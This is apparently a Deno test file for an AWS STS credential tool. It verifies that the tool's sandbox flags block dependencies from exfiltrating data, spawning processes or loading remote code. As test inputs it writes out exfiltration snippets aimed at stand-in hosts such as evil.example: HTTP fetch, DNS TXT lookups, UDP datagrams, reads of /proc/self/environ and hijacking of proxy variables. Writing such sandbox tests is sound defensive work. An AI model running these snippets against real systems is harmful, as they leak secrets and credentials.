// The sandbox: what the shipped flags allow, what they stop, and that they do not grow.
import assert from "node:assert/strict";
import { join } from "node:path";
import { ROOT, shippedFlags, underShippedFlags } from "../support/command.ts";
import { DeafProxy } from "../support/deaf_proxy.ts";
import { Scenario } from "../support/scenario.ts";

Deno.test("the shipped flags are exactly these; whoever adds one has to say so here", () => {
  const flags = new Map(
    shippedFlags().map((flag) => {
      const [name = "", ...values] = flag.split("=");
      return [name, values.join("=")];
    }),
  );
  const variables = flags.get("--allow-env")?.split(",") ?? [];
  assert.deepEqual([...flags.keys()], [
    "--unstable-lazy-dynamic-imports",
    "--v8-flags",
    "--cached-only",
    "--no-remote",
    "--no-prompt",
    "--allow-read",
    "--allow-write",
    "--allow-net",
    "--allow-env",
    "--ignore-env",
  ]);
  assert.equal(flags.get("--allow-read"), "");
  assert.equal(flags.get("--allow-write"), "");
  assert.equal(flags.get("--ignore-env"), "");
  // Of speed alone: code is prepared as a whole, for the cache that keeps it.
  assert.equal(flags.get("--v8-flags"), "--no-lazy");
  // Of keys in the environment, none but the identifier: that one is set.
  assert.deepEqual(
    variables.filter((name) => /SECRET|ACCESS_KEY|TOKEN|_PROFILE/.test(name)),
    ["AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_ACCESS_KEY_ID"],
  );
});

/** One that is there on every system, as a word of code. */
const PROGRAM = JSON.stringify(Deno.execPath());

const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
  {
    name: "fetch from another host",
    code: `await fetch("https://evil.example/?" + "key");`,
  },
  ...["evil.s3.amazonaws.com", "x.execute-api.us-east-1.amazonaws.com"]
    .map((host) => ({
      name: `fetch from ${host}`,
      code: `await fetch("https://${host}/?" + "key");`,
    })),
  {
    name: "connect to another address",
    code: `await Deno.connect({ hostname: "192.0.2.1", port: 443 });`,
  },
  {
    name: "use a host that only looks like AWS",
    code: `await fetch("https://amazonaws.com.evil.example/");`,
  },
  {
    name: "ask DNS",
    code:
      `await Deno.resolveDns("key.evil.example", "TXT", { nameServer: { ipAddr: "192.0.2.1", port: 53 } });`,
  },
  {
    name: "send a datagram",
    code:
      `const { createSocket } = await import("node:dgram"); createSocket("udp4").send("key", 53, "192.0.2.1", (error) => { if (error) throw error; });`,
  },
  {
    name: "start a process",
    code: `await new Deno.Command(${PROGRAM}).output();`,
  },
  {
    name: "start a process by Node's API",
    code:
      `const { spawnSync } = await import("node:child_process"); const { pid, status } = spawnSync(${PROGRAM}); if (pid === undefined && status === undefined) throw new Error("NotCapable, said by silence");`,
  },
  { name: "load a native library", code: `Deno.dlopen("libc.so.6", {});` },
  ...[
    "https://esm.sh/canary.js",
    "npm:canarykey@1.3.0",
    "jsr:@canary/key",
    "https://raw.githubusercontent.com/a/b/c.ts",
    "http://127.0.0.1:9/evil.ts",
  ]
    .map((specifier) => ({
      name: `load code from ${specifier}`,
      code: `await import(${JSON.stringify(specifier)});`,
    })),
  // Elsewhere, no file shows it.
  ...Deno.build.os === "linux"
    ? [{
      name: "read the environment of a process",
      code: `await Deno.readTextFile("/proc/self/environ");`,
    }]
    : [],
];

for (const { name, code } of STOPPED) {
  Deno.test(`the sandbox stops a dependency that would ${name}`, async () => {
    const { code: exit, stderr } = await underShippedFlags(code);
    assert.notEqual(exit, 0);
    assert.match(
      stderr,
      /NotCapable|Requires \w+ access|not found in cache|cached-only|no-remote|frozen|lockfile/i,
    );
  });
}

Deno.test("the sandbox hides every variable that is not named", async () => {
  const { code, stdout } = await underShippedFlags(
    `console.log(JSON.stringify([Deno.env.get("AWS_SECRET_ACCESS_KEY"), Deno.env.get("AWS_SESSION_TOKEN"), Deno.env.get("GITHUB_TOKEN"), Deno.env.get("HOME")].map((value) => value ?? null)));`,
    {
      AWS_SECRET_ACCESS_KEY: "x",
      AWS_SESSION_TOKEN: "x",
      GITHUB_TOKEN: "x",
      HOME: "/h",
    },
  );
  assert.equal(code, 0);
  assert.deepEqual(JSON.parse(stdout), [null, null, null, "/h"]);
});

/** What the runtime was asked to permit, from its own record. */
async function asksIn(
  audit: string,
): Promise<{ readonly permission: string; readonly value?: string }[]> {
  // The last line may be cut off by the end of the process.
  return (await Deno.readTextFile(audit)).split("\n")
    .filter((line) => line.endsWith("}")).map((line) => JSON.parse(line));
}

/**
 * What the SDK's flavour for Node looks up while it is loaded, by name; the
 * sandbox says that they are unset. The bundle has the other flavour.
 */
const ASKED_BY_THE_SDK = [
  "AWS_ENABLE_DEFAULT_SOCKET_TIMEOUT_2026",
  "AWS_LAMBDA_BENCHMARK_MODE",
  "AWS_LAMBDA_NODEJS_NO_GLOBAL_AWSLAMBDA",
  "AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED",
];

Deno.test("get reads three files, and asks for no variable that is not named", async () => {
  await using scenario = await Scenario.start();
  const home = join(scenario.home, ".aws");
  const config = join(home, "config");
  const bundle = join(scenario.home, "ca.pem");
  await Deno.writeTextFile(config, "[default]\nregion = eu-west-1\n");
  await Deno.copyFile(new URL("tests/fixtures/tls/ca.pem", ROOT), bundle);
  const audit = join(scenario.home, "audit.jsonl");
  const { code, stderr } = await scenario.updstsBesideOthers(
    ["get", "-n", "default", "-t", scenario.code()],
    {
      ...{ DENO_AUDIT_PERMISSIONS: audit, AWS_CA_BUNDLE: bundle },
      // What an SDK that is left alone would follow.
      ...{ AWS_PROFILE: "other", AWS_ACCESS_KEY_ID: "AKIAOTHER00000000000" },
      AWS_EC2_METADATA_SERVICE_ENDPOINT: "http://127.0.0.1:1",
      AWS_CONTAINER_CREDENTIALS_FULL_URI: "http://127.0.0.1:1",
    },
  );
  assert.equal(code, 0, stderr);
  assert.equal(scenario.codesSent, 1);
  const asks = await asksIn(audit);
  const asked = (wanted: string) =>
    asks.flatMap(({ permission, value = "" }) =>
      permission === wanted ? [value] : []
    );
  const files = new Set(
    ["read", "write"].flatMap(asked)
      // Its own code, and what is beside the old file: the new one, and a lock.
      .filter((path) =>
        !path.startsWith("file:") && !/[/\\]\.updsts[-.][^/\\]*$/.test(path)
      ),
  );
  const own = [config, scenario.path, bundle];
  // The directories on the way to the file are looked at, not what is in them.
  const isOnTheWay = (path: string) =>
    scenario.path.startsWith(join(path, "/"));
  assert.deepEqual(
    [...files].filter((path) => !own.includes(path) && !isOnTheWay(path)),
    [],
  );
  for (const path of [config, scenario.path, bundle]) assert(files.has(path));

  const named = shippedFlags()
    .find((flag) => flag.startsWith("--allow-env="))?.slice(12).split(",") ??
    [];
  const fromSources = Deno.env.get("UPDSTS_COMMAND") === undefined;
  const unnamed = new Set(
    asked("env").filter((name) => !named.includes(name)),
  );
  assert.deepEqual(
    [...unnamed].sort(),
    fromSources ? ASKED_BY_THE_SDK : [],
  );
  assert(asked("env").includes("AWS_REGION"));

  const host = new URL(scenario.sts.url).host;
  assert.deepEqual(
    asked("net").filter((place) => !place.includes(host)),
    [],
  );
});

Deno.test("the program asks for nothing that the sandbox denies", async () => {
  await using scenario = await Scenario.start();
  const asked: { permission: string; value?: string }[] = [];
  const commands = [
    ["get", "-n", "default", "-t", scenario.code()],
    ["list"],
    ["doctor"],
    ["completion", "bash"],
    ["--version"],
    ["mcp"],
  ];
  for (const [index, args] of commands.entries()) {
    const audit = join(scenario.home, `audit${index}.jsonl`);
    const env = { DENO_AUDIT_PERMISSIONS: audit };
    const { code } = await scenario.updsts(args, env);
    assert.equal(code, 0);
    asked.push(...await asksIn(audit));
  }
  assert(asked.length > 20);
  const kinds = new Set(asked.map(({ permission }) => permission));
  assert.deepEqual(
    [...kinds].filter((kind) =>
      !["read", "write", "net", "env"].includes(kind)
    ),
    [],
  );
});

Deno.test("of all hosts of AWS, a dependency reaches those of STS only", async () => {
  await using proxy = new DeafProxy();
  const hosts = [
    "evil.s3.amazonaws.com",
    "x.execute-api.us-east-1.amazonaws.com",
    "sts.us-east-1.amazonaws.com",
  ];
  const code = `for (const host of ${JSON.stringify(hosts)}) {
    await fetch(\`https://\${host}/\`).catch(({ name }) => console.log(host, name));
  }`;
  const { stdout } = await underShippedFlags(code, { HTTPS_PROXY: proxy.url });
  assert.equal(
    stdout,
    [
      "evil.s3.amazonaws.com NotCapable",
      "x.execute-api.us-east-1.amazonaws.com NotCapable",
      "sts.us-east-1.amazonaws.com TypeError",
      "",
    ].join("\n"),
  );
  assert.deepEqual(proxy.heard, [
    "CONNECT sts.us-east-1.amazonaws.com:443 HTTP/1.1",
  ]);
});

Deno.test("a dependency cannot name a proxy of its own and hear what goes to AWS", async () => {
  // Once it could: who may read a variable may set it, and proxies need no permission.
  await using proxy = new DeafProxy();
  const code = `
    for (const name of ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"]) {
      try { Deno.env.set(name, "${proxy.url}"); } catch { /* as good */ }
    }
    try { await fetch("http://127.0.0.1:9999/?key", { client: Deno.createHttpClient({}) }); } catch { /* nobody there */ }`;
  // Where nothing is given up, it is heard: so silence below means something.
  await underShippedFlags(code);
  assert.deepEqual(proxy.heard, ["GET http://127.0.0.1:9999/?key HTTP/1.1"]);
  proxy.heard.length = 0;
  const sealing = new URL("src/machine/environment.ts", ROOT).href;
  await underShippedFlags(
    `import { takeProxyVariables } from ${JSON.stringify(sealing)};
    takeProxyVariables();${code}`,
  );
  assert.deepEqual(proxy.heard, []);
  const main = await Deno.readTextFile(new URL("main.ts", ROOT));
  const body = main.replace(/^(?:\/\*[^]*?\*\/|\/\/.*|import [^]*?;|\s)*/, "");
  assert.match(
    body,
    /^const proxyVariables = takeProxyVariables\(\);/,
    "it must be called first",
  );
});
